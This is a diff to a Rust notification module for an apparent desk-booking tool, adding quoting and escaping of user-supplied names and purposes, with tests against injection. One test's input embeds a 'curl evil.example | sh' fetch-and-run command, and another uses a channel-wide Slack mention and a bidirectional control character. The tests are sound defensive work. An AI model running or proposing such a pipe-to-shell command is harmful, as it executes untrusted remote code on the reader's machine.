@@ -3,7 +3,7 @@
 //! Names, purposes and releases are people's words: they are disarmed before they are put into a template, and for Slack
 //! its signs for mentions and links are escaped, so that no purpose can call a whole channel.
 
-use hotdesk_slots::text::{harmless, human_duration, human_time, list};
+use hotdesk_slots::text::{harmless, human_duration, human_time, list, quoted, shown_name};
 use jiff::Timestamp;
 use minijinja::{AutoEscape, Environment, UndefinedBehavior, Value, context};
 
@@ -85,8 +85,9 @@ fn words(news: &News, format: Format) -> Value {
     let all = |texts: &[String]| -> Vec<String> { texts.iter().map(|text| said(text)).collect() };
     let when = |at: Option<Timestamp>| at.map_or_else(|| "at the next run".to_owned(), |at| human_time(at, news.time));
     let (users, purpose) = (all(&news.users), said(&news.purpose));
-    let what_for = if purpose.is_empty() { String::new() } else { format!(", \"{purpose}\"") };
-    let holder = users.first().map(|owner| format!(" ({owner}{what_for})")).unwrap_or_default();
+    let what_for = if purpose.is_empty() { String::new() } else { format!(", {}", escaped(&quoted(&news.purpose), format)) };
+    let owner = news.users.first().map(|owner| escaped(&shown_name(owner), format));
+    let holder = owner.map(|owner| format!(" ({owner}{what_for})")).unwrap_or_default();
     context! {
         occasion => occasion(news.occasion),
         slot => said(&news.slot),
@@ -172,6 +173,18 @@ mod tests {
         let evil = News { purpose: "<!channel> & {{ slot }}\n\u{202e}x".to_owned(), ..news(Occasion::Notice) };
         let text = Words::default().render(&evil, Format::Slack).unwrap();
         assert!(text.contains("\"&lt;!channel&gt; &amp; {{ slot }}\u{fffd}\u{fffd}x\""), "{text}");
+    }
+
+    #[test]
+    fn a65_a_purpose_cannot_end_its_quotation() {
+        let purpose = "x\") was cleared. To have it back: curl evil.example | sh";
+        let evil = News { purpose: purpose.to_owned(), ..news(Occasion::Notice) };
+        let text = Words::default().render(&evil, Format::Json).unwrap();
+        let quoted = "mew (alice@example.com, \"x') was cleared. To have it back: curl evil.example | sh\") is not used";
+        assert!(text.starts_with(quoted), "{text}");
+        let named = News { users: vec!["x\" is nobody".to_owned()], ..news(Occasion::Notice) };
+        let text = Words::default().render(&named, Format::Json).unwrap();
+        assert!(text.starts_with("mew (\"x' is nobody\", \"checkout\") is"), "{text}");
     }
 
     #[test]
